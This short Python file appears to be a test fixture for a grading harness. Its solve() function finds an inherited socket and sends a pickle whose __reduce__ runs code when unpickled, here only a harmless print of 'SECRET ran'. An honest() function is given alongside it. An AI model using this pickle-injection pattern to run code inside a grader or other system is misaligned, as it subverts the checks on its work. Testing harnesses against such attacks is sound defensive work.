"""Send a pickle that would run code."""
import os, struct, socket, stat
def connection():
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            pass
def frame(content):
    return struct.pack("<Q", len(content)) + content

import pickle
class Bomb:
    def __reduce__(self):
        return (print, ("SEC" + "RET ran",))
def solve(x):
    os.write(connection(), frame(pickle.dumps(Bomb())))
    return -1


# %%
def honest(x):
    return x + 1
